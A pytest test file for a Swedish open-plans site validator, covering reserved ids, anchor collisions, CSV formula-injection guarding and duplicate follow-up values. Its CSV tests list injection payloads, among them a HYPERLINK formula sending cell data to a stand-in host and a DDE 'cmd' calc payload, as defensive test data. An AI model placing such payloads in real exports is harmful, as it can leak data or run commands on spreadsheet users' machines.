"""Smaller holes of issue 18: an id never takes an address or anchor the site makes itself,
no part of a CSV cell becomes a formula whatever a spreadsheet splits on, and a follow-up
gives each fact once.

Each case is a modified copy of the project (the `project` fixture) run through
`python -m macros validate`; one real build shows that a refused id replaces no page.
"""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from conftest import ROOT, build
from macros import urls
from macros.downloads import FileStore, Settings
from macros.downloads import build as build_downloads
from macros.downloads.csvfiles import safe_text
from macros.loading import load_corpus
from macros.rendering.text import plain
from test_data_errors import edit, reports

TIMEOUT = 180  # seconds: validate takes about one on the real data


def validate(project: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "macros", "validate"], cwd=project, capture_output=True,
                          text=True, timeout=TIMEOUT, env=dict(os.environ, OPPNA_CACHE="0"))


def messages(result: subprocess.CompletedProcess) -> list[str]:
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output, output
    return reports(result.stderr)


def rename_id(project: Path, folder: str, old: str, new: str) -> None:
    """Give a plan or set of minutes a new id: its file, and every reference to it in data/."""
    for path in (project / "data").rglob("*.yml"):
        text = path.read_text(encoding="utf-8")
        if old in text:
            path.write_text(text.replace(old, new), encoding="utf-8")
    for path in (project / "data" / folder).rglob(f"{old}.yml"):
        path.rename(path.with_name(f"{new}.yml"))


def line_of(path: Path, text: str) -> int:
    content = path.read_text(encoding="utf-8")
    return content[: content.index(text)].count("\n") + 1


# --- ids that would take an address the site makes itself ------------------------------

def test_no_region_id_takes_an_address_of_the_site(project):
    """Every reserved word at once: a region file of each, each refused at its id's line."""
    text = (ROOT / "data/regioner/vasterbotten.yml").read_text(encoding="utf-8")
    assert set(urls.RESERVED_REGION_IDS) >= {"data", "katalog", "andringar", "om", "assets", "pagefind",
                                              "schema", "fragment", "index", "filter"}
    for word in urls.RESERVED_REGION_IDS:
        (project / f"data/regioner/{word}.yml").write_text(
            text.replace("id: vasterbotten\n", f"id: {word}\n", 1), encoding="utf-8")
    found = messages(validate(project))
    line = line_of(project / "data/regioner/data.yml", "id: data\n")
    for word, taken in urls.RESERVED_REGION_IDS.items():
        head = (f"data/regioner/{word}.yml, rad {line}, kolumn 1: id '{word}' är upptaget av webbplatsen själv: "
                f"regionens adresser skulle ta webbplatsens egen adress {taken}")
        assert [m for m in found if m.startswith(head)], (word, found)


PAGE_KINDS = [  # kind of page, its folder in data/, an id of the real data, where its page is
    ("plan", "planer", "hsn-namndplan-2025", "vasterbotten/planer/"),
    ("protokoll", "protokoll", "hsu-2023-12-07", "vasternorrland/protokoll/"),
    ("indikator", "indikatorer", "anvandandet-av-sjalvservice", "vasterbotten/indikatorer/"),
]


@pytest.mark.parametrize("word", sorted(urls.RESERVED_PAGE_IDS))
@pytest.mark.parametrize("kind, folder, ident, address", PAGE_KINDS, ids=[k[0] for k in PAGE_KINDS])
def test_no_page_id_takes_its_folders_own_page(project, kind, folder, ident, address, word):
    rename_id(project, folder, ident, word)
    found = messages(validate(project))
    refused = [m for m in found if f"id '{word}' är upptaget av webbplatsen själv: sidan skulle få adressen "
                                   f"/{address}, som är mappens egen sida, i stället för /{address}{word}/" in m]
    assert len(refused) == 1, found
    assert refused[0].startswith(f"data/{folder}/"), refused
    assert "förväntade: ett annat id, som säger vad det gäller, till exempel '" in refused[0]


def test_an_indicator_called_index_no_longer_replaces_the_overview(project, tmp_path):
    rename_id(project, "indikatorer", "anvandandet-av-sjalvservice", "index")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "Traceback" not in result.stdout + result.stderr
    assert ("data/indikatorer/vasterbotten.yml, rad" in result.stderr
            and "id 'index' är upptaget av webbplatsen själv" in result.stderr), result.stderr
    assert not (tmp_path / "site/vasterbotten/indikatorer/index.html").exists()


# --- ids that would take an anchor made from another id ------------------------------------

MINUTES = "data/protokoll/vasternorrland/hsu-2023-12-07.yml"
PARTS_OF_P92 = [(slug, f"avsnittet '{heading}'") for slug, heading in
                (("arendebeskrivning", "Ärendebeskrivning"), ("bakgrund", "Bakgrund"))]
PARTS_OF_P92 += [(part, f"delen '{title}'") for part, title in urls.PARAGRAPH_PARTS.items()]


@pytest.mark.parametrize("part, what", PARTS_OF_P92, ids=[p for p, _ in PARTS_OF_P92])
def test_no_paragraph_id_is_an_anchor_of_another_paragraphs_part(project, part, what):
    """§ p92 has the sections Ärendebeskrivning and Bakgrund, and every § has the fixed parts
    (present or not): #paragraf-p92-<part> is theirs, so no § may have the id p92-<part>."""
    ident = f"p92-{part}"
    line = edit(project, MINUTES, "  - id: p90\n", f"  - id: {ident}\n")
    edit(project, MINUTES, "[p90, ", f"[{ident}, ")
    found = messages(validate(project))
    assert len(found) == 1, found
    head, *rest = found[0].split("\n")
    assert head.startswith(f"{MINUTES}, rad {line}, kolumn 5: id '{ident}' ger adressen "
                           f"#paragraf-{ident}, som redan är adressen till {what}"), head
    assert head.endswith(f"i § 92 (rad {line_of(project / MINUTES, '  - id: p92' + chr(10))})"), head
    assert "  förväntade: ett annat id, som inte börjar med 'p92-'" in rest


@pytest.mark.parametrize("part, title", list(urls.PARAGRAPH_PARTS.items()))
def test_no_part_of_a_paragraph_has_the_anchor_of_another_paragraphs_part(project, part, title):
    """§ p92's section 'Bakgrund <part>' is #paragraf-p92-bakgrund-<part>, which would also be
    the part <part> of a § p92-bakgrund: that id is refused, present or not its part."""
    section = edit(project, MINUTES, "      - rubrik: Bakgrund\n", f"      - rubrik: Bakgrund {part}\n")
    line = edit(project, MINUTES, "  - id: p90\n", "  - id: p92-bakgrund\n")
    edit(project, MINUTES, "[p90, ", "[p92-bakgrund, ")
    found = messages(validate(project))
    assert found == [
        f"{MINUTES}, rad {line}, kolumn 5: id 'p92-bakgrund' ger adressen #paragraf-p92-bakgrund-{part} till "
        f"delen '{title}' i § 90 (rad {line}), som redan är adressen till avsnittet 'Bakgrund {part}' "
        f"(rad {section}) i § 92 (rad {line_of(project / MINUTES, '  - id: p92' + chr(10))})\n"
        "  plats: protokoll hsu-2023-12-07 → § \"90\"\n"
        "  förväntade: ett annat id, som inte börjar med 'p92-'"]


@pytest.mark.parametrize("number", ["1", "2", "3"])
def test_no_table_id_is_an_anchor_of_another_tables_footnote(project, number):
    plan = "data/planer/vasternorrland/rs-verksamhetsplan-2025-2027.yml"
    ident = f"resursramar-fotnot-{number}"
    line = edit(project, plan, '          - text: "I resursramarna ingår;"\n',
                f'          - tabell:\n              id: {ident}\n              rubrik: Annan tabell\n'
                f'              kolumner: [Budget 2025]\n              rader:\n'
                f'                - {{namn: Summa, värden: [1]}}\n'
                f'          - text: "I resursramarna ingår;"\n') + 1
    found = messages(validate(project))
    assert len(found) == 1, found
    assert found[0].startswith(f"{plan}, rad {line}, kolumn 15: id '{ident}' ger adressen #tabell-{ident}, "
                               f"som redan är adressen till fotnot {number} i tabellen på rad "), found


# --- CSV: no part of a text cell starts like a formula ------------------------------------

STARTERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
SEPARATORS = ["", ";", ",", "\t", "\n", "\r\n"]  # "" is the start of the cell
PADDING = ["", " ", '"', ' "\t']
FORMULA = re.compile(r'^[\s"]*[=+\-@＝＋－＠]')


def formula_parts(text: str) -> list[str]:
    """The parts of a text that a spreadsheet splitting on any separator would start a cell
    with, that start like a formula (after spaces and quotes, which it may drop)."""
    return [part for part in re.split(r"[;,\t\r\n]", text) if FORMULA.match(part)]


def test_no_part_of_a_text_starts_like_a_formula():
    """Every formula starter, after every separator (or at the start), behind every padding."""
    unsafe = []
    for starter, separator, padding in itertools.product(STARTERS, SEPARATORS, PADDING):
        text = f"Vård{separator}{padding}{starter}HYPERLINK(\"http://x.example/\";\"Klicka\")" if separator \
            else f"{padding}{starter}1+1"
        safe = safe_text(text)
        if formula_parts(safe) or safe.replace("'", "", 1) != text:  # one apostrophe added, nothing else
            unsafe.append((text, safe))
    assert unsafe == []


HOSTILE = ['Vård; =HYPERLINK("http://x.example/?"&A1;"Klicka")', "Tandvård;+1+cmd|' /C calc'!A0",
           "Andel,-2+3", "Namn\t@SUM(1;2)", "Rad ett\n=1+1", 'Citat; "=1+1"', "Bredd;＝1+1",
           "a;;; -5", "Helt vanlig text", "=1+1"]


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory) -> bytes:
    """indikatorer.csv of a plan whose indicator names and notes are hostile."""
    corpus = load_corpus(ROOT / "data")
    plan = corpus.plan("vasternorrland", "hsn-verksamhetsplan-2024-2026")
    rows = list(plan.indicators())
    for index, row in enumerate(rows):
        row.name = HOSTILE[index % len(HOSTILE)]
    assert len(rows) >= len(HOSTILE)
    settings = Settings("https://oppnaplaner.example/", "Öppna planer", "Utgivare", "a@b.example")
    downloads = build_downloads(corpus, settings, FileStore(tmp_path_factory.mktemp("data")))
    return downloads.files["data/vasternorrland/planer/hsn-verksamhetsplan-2024-2026/indikatorer.csv"].content


def test_the_csv_module_reads_every_hostile_text_back_guarded(hostile_csv):
    rows = list(csv.DictReader(io.StringIO(hostile_csv.decode("utf-8"), newline="")))
    names = {row["indicator_name"] for row in rows}
    assert names == {safe_text(plain(text)) for text in HOSTILE}
    for name in names:
        assert formula_parts(name) == [], name
    assert all(re.fullmatch(r"(-?\d+(\.\d+)?)?", row["value"]) for row in rows)  # numbers stay numbers


@pytest.mark.parametrize("separator", [";", "\t", ","])
def test_a_spreadsheet_splitting_on_any_separator_finds_no_formula(hostile_csv, separator):
    """Read as Swedish Excel does (';', quotes honoured where a field starts), or on tabs or
    commas, and line by line as the bytes stand: no field starts like a formula."""
    text = hostile_csv.decode("utf-8")
    fields = [field for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for field in row]
    fields += [field for line in text.splitlines() for field in line.split(separator)]
    numbers = re.compile(r"^-\d+(\.\d+)?$")
    assert fields
    assert [f for f in fields if FORMULA.match(f) and not numbers.match(f)] == []


def test_every_text_cell_is_quoted_and_numbers_are_not(hostile_csv):
    lines = hostile_csv.decode("utf-8").split("\r\n")
    assert lines[0].startswith("region,plan,")  # the header as before
    assert lines[1].startswith('"vasternorrland","hsn-verksamhetsplan-2024-2026",')
    assert re.search(r',-?\d+(\.\d+)?,', hostile_csv.decode("utf-8"))  # a bare number


# --- a follow-up gives each fact once --------------------------------------------------------

FOLLOW_UP = """id: {id}
region: vasternorrland
titel: {title}
typ: delårsrapport
datum: "{date}"
utfall:
{outcomes}"""


def write_follow_up(project: Path, ident: str, outcomes: list[tuple[str, int, str]],
                    date: str = "2031-10-14") -> str:
    relative = f"data/uppfoljning/vasternorrland/{ident}.yml"
    path = project / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = "".join(f"  - indikator: {indicator}\n    år: {year}\n    värde: {value}\n"
                    for indicator, year, value in outcomes)
    path.write_text(FOLLOW_UP.format(id=ident, title=f"Rapport {ident}", date=date, outcomes=lines),
                    encoding="utf-8")
    return relative


OUTCOME_LINE = 7  # the first outcome's line; each takes three


@pytest.mark.parametrize("first, second", [
    ("72", "72"),  # the same value twice
    ("72", "73"),
    ("{RVN: 72, RLF: 70}", "{RVN: 72}"),  # one series given twice
    ("72", "{RLF: 70}"),  # a value without series holds for each series
    ("{RVN: 72}", "{värde: 72, not: Prel.}"),
], ids=["same", "different", "series", "plain-and-series", "note"])
def test_one_follow_up_gives_an_indicator_and_year_once(project, first, second):
    """Only the second 2031 is refused: other years, another indicator, and the two series
    of one year given in two items are fine."""
    relative = write_follow_up(project, "delarsrapport-2031-08", [
        ("hme-totalindex", 2031, first), ("hme-totalindex", 2030, "71"), ("hme-totalindex-hsn", 2031, "72"),
        ("hme-totalindex", 2029, "{RVN: 72}"), ("hme-totalindex", 2029, "{RLF: 70}"),
        ("hme-totalindex", 2031, second)])
    found = messages(validate(project))
    assert len(found) == 1, found
    head, place, expected = found[0].split("\n")
    assert head.startswith(f"{relative}, rad {OUTCOME_LINE + 15}, kolumn 5: utfallet för 'hme-totalindex' 2031")
    assert head.endswith(f"står redan på rad {OUTCOME_LINE} i samma fil"), head
    assert expected.startswith("  förväntade: varje indikator, år och serie en gång i en uppföljning"), expected


@pytest.mark.parametrize("first, second, series, shown", [
    ("72", "73", "RVN", ("73", "72")),
    ("{RVN: 72, RLF: 70}", "{RLF: 69}", "RLF", ("69", "70")),
    ("{värde: 72, not: Prel.}", "{RVN: 73}", "RVN", ("73", "72")),
], ids=["number", "series", "note"])
def test_two_follow_ups_may_not_give_one_fact_different_values(project, first, second, series, shown):
    earlier = write_follow_up(project, "a-delarsrapport-2031-08", [("hme-totalindex", 2031, first),
                                                                   ("hme-totalindex", 2030, "{RVN: 71}")])
    later = write_follow_up(project, "b-arsredovisning-2031", [("hme-totalindex", 2031, second)],
                            date="2032-03-01")
    # a later one that repeats a value (2030) is fine: only a different one is refused
    write_follow_up(project, "c-uppfoljning-2032", [("hme-totalindex", 2030, "71")], date="2032-06-01")
    found = messages(validate(project))
    assert len(found) == 1, found
    head, place, found_line, expected = found[0].split("\n")
    assert head == (f"{later}, rad {OUTCOME_LINE + 2}, kolumn 5: utfallet för 'hme-totalindex' 2031 "
                    f"({series}) är {shown[0]} här men {shown[1]} i {earlier}, rad {OUTCOME_LINE}"), head
    assert expected.startswith("  förväntade: samma utfall i båda uppföljningarna"), expected
